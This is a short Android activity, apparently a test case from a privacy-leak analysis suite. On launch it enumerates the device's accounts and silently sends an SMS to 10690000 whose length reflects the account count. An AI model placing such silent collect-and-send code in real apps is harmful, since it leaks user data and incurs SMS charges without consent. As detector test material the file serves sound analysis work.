package cn.privlens.suite.accounts_types;

import android.accounts.Account;
import android.accounts.AccountManager;
import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String out = "";
        for (Account a : AccountManager.get(this).getAccounts()) {
            out += "." + "\n";
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, out, null, null);
    }
}
